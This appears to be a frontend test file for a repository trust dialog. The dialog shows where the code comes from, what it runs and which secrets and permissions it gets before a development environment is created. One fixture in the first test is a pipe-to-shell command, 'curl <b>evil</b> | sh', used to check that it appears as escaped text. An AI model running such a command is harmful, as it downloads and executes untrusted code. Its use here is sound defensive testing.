// @vitest-environment happy-dom
import { cleanup, fireEvent, screen, within } from '@testing-library/react'
import { afterEach, expect, test } from 'vitest'
import { aPreview, aPullRequest, aResolution } from '#web/testing/a-resolution.ts'
import { refusal } from '#web/testing/fake-link.ts'
import { createButton, openForm, settled, trusted, wants } from './repository-form.testing.tsx'

afterEach(cleanup)

const hash = 'c'.repeat(64)
const ofFork = aResolution({
  ref: { kind: 'pull', number: 7 },
  pullRequest: aPullRequest({ isFork: true }),
})
const theButton = (name: string) => screen.findByRole('button', { name })

test('S-28 a link shows what it is made from, what will run and what that gets, and only a click creates', async () => {
  const { sent, created, calls } = openForm('ada/engine/pull/7', {
    'repositories.resolve': () => ofFork,
    'repositories.preview': () => aPreview({ trust: trusted, wants }),
  })
  const origin = within(await screen.findByRole('region', { name: 'What it is made from' }))
  expect(origin.getByText('ada/engine')).toBeDefined()
  expect(origin.getByText(/Opened by grace from grace\/engine, branch door/)).toBeDefined()
  const runs = within(screen.getByRole('region', { name: 'What it runs and gets' }))
  // S-26: as text.
  expect(await runs.findByText('curl <b>evil</b> | sh')).toBeDefined()
  expect(runs.getByText('API_TOKEN')).toBeDefined()
  expect(runs.getByText('Reads it and pushes to it')).toBeDefined()
  expect(runs.getByText('github.com/ada/dotfiles')).toBeDefined()
  expect(runs.getByText('Trusted by you')).toBeDefined()
  expect(sent()).toEqual([])
  fireEvent.click(await createButton())
  await expect.poll(() => created).toHaveLength(1)
  const repositoryUrl = 'https://github.com/ada/engine'
  const input = { repositoryUrl, ref: { kind: 'pull', number: 7 } }
  expect(sent()[0]?.input).toEqual({ ...input, idempotencyKey: expect.any(String) })
  expect(calls.find(({ path }) => path === 'repositories.preview')?.input).toEqual({
    repositoryUrl,
    sha: 'a'.repeat(40),
    ref: { kind: 'pull', number: 7 },
  })
})

test('a repository that nobody has decided about is trusted as it was shown, or created untrusted', async () => {
  const { sent } = openForm('ada/engine', { 'repositories.preview': () => aPreview({ wants }) })
  const trust = await theButton('Trust and create')
  const untrusted = screen.getByRole('button', {
    name: 'Create untrusted',
    description: /no network, no secrets, and nothing runs by itself/,
  })
  expect(screen.queryByRole('button', { name: 'Create codespace' })).toBeNull()
  await settled()
  fireEvent.click(trust)
  await expect.poll(sent).toHaveLength(1)
  expect(sent()[0]?.input).toMatchObject({ trustedConfigurationHash: hash })
  cleanup()
  expect(untrusted.isConnected).toBe(false)
  const other = openForm('ada/engine', { 'repositories.preview': () => aPreview({ wants }) })
  const button = await theButton('Create untrusted')
  await settled()
  fireEvent.click(button)
  await expect.poll(other.sent).toHaveLength(1)
  expect(other.sent()[0]?.input).not.toHaveProperty('trustedConfigurationHash')
})

test('other repositories it asks for are agreed to with it, or left out', async () => {
  const listHash = 'd'.repeat(64)
  const asking = {
    ...wants,
    repositories: [
      {
        path: 'ada/library',
        permissions: { contents: 'read' as const },
        isRefused: false,
        reason: null,
      },
      {
        path: 'eve/keys',
        permissions: { contents: 'write' as const },
        isRefused: true,
        reason: 'It is not one of ada’s.',
      },
    ],
    listHash,
  }
  const answers = { 'repositories.preview': () => aPreview({ wants: asking }) }
  const { sent } = openForm('ada/engine', answers)
  const trust = await theButton('Trust and create')
  const others = within(screen.getByRole('group', { name: 'Other repositories it asks for' }))
  expect(others.getByText('ada/library: contents (read)')).toBeDefined()
  expect(others.getByText(/Refused. It is not one of ada’s/)).toBeDefined()
  await settled()
  fireEvent.click(trust)
  await expect.poll(sent).toHaveLength(1)
  expect(sent()[0]?.input).toMatchObject({ otherRepositories: { listHash, isGiven: true } })
  cleanup()
  const without = openForm('ada/engine', answers)
  const again = await theButton('Trust and create')
  fireEvent.click(screen.getByRole('checkbox', { name: /^Continue without them/ }))
  await settled()
  fireEvent.click(again)
  await expect.poll(without.sent).toHaveLength(1)
  expect(without.sent()[0]?.input).toMatchObject({
    otherRepositories: { listHash, isGiven: false },
  })
})

test('Enter in a field trusts nothing: it leads to what there is to decide (S-28)', async () => {
  const { sent } = openForm('ada/engine', { 'repositories.preview': () => aPreview({ wants }) })
  const form = (await theButton('Trust and create')).closest('form') as HTMLFormElement
  await settled()
  fireEvent.submit(form)
  const section = screen.getByRole('region', { name: 'What it runs and gets' })
  await expect.poll(() => document.activeElement).toBe(section)
  expect(sent()).toEqual([])
})

test('S-76 a fork says whose code it is, and to look first is proposed', async () => {
  openForm('ada/engine/pull/7', {
    'repositories.resolve': () => ofFork,
    'repositories.preview': () => aPreview({ trust: { isTrusted: false, reason: 'fork' } }),
  })
  const group = within(await screen.findByRole('group', { name: 'Whether to trust it' }))
  const names = group.getAllByRole('button').map(({ textContent }) => textContent)
  expect(names).toEqual(['Create untrusted', 'Trust and create'])
  expect(screen.getByText(/The code is from grace\/engine, a fork\./)).toBeDefined()
})

test('a configuration that changed since it was trusted is asked about again, and says so', async () => {
  openForm('ada/engine', {
    'repositories.preview': () => aPreview({ trust: { isTrusted: false, reason: 'changed' } }),
  })
  expect(await screen.findByText(/changed since you trusted it/)).toBeDefined()
  expect(screen.getByRole('button', { name: 'Trust and create' })).toBeDefined()
})

test('what could not be read is created untrusted only, and why is said', async () => {
  const unreadable = 'GitHub does not answer.'
  const { sent } = openForm('ada/engine', {
    'repositories.preview': () => aPreview({ configurationHash: null, unreadable }),
  })
  const button = await theButton('Create untrusted')
  expect(screen.getByText(/GitHub does not answer\. So it is created untrusted/)).toBeDefined()
  expect(screen.queryByText('Your secrets')).toBeNull()
  expect(screen.queryByRole('button', { name: 'Trust and create' })).toBeNull()
  await settled()
  fireEvent.click(button)
  await expect.poll(sent).toHaveLength(1)
})

test('an address that is sent before anything was seen of it is shown first', async () => {
  const url = 'https://git.example.com/a/b'
  const { sent } = openForm('', {
    'repositories.resolve': () => aResolution({ repositoryUrl: url, repository: null, sha: null }),
    'repositories.preview': () => aPreview({ configurationHash: null, unreadable: 'Unknown.' }),
  })
  fireEvent.change(await screen.findByLabelText('Repository'), { target: { value: url } })
  fireEvent.click(await createButton())
  const section = await screen.findByRole('region', { name: 'What it runs and gets' })
  await expect.poll(() => document.activeElement).toBe(section)
  expect(sent()).toEqual([])
})

test('what runs that cannot be looked up is said, and can be asked for again', async () => {
  let isDown = true
  openForm('ada/engine', {
    'repositories.preview': () => {
      if (isDown) throw refusal('CONFLICT', 'DATABASE_BUSY', 'The database is busy.')
      return aPreview({ trust: trusted, wants })
    },
  })
  expect(await screen.findByText(/could not be looked up\. The database is busy/)).toBeDefined()
  isDown = false
  fireEvent.click(screen.getByRole('button', { name: 'Try again' }))
  expect(await screen.findByText('API_TOKEN')).toBeDefined()
})
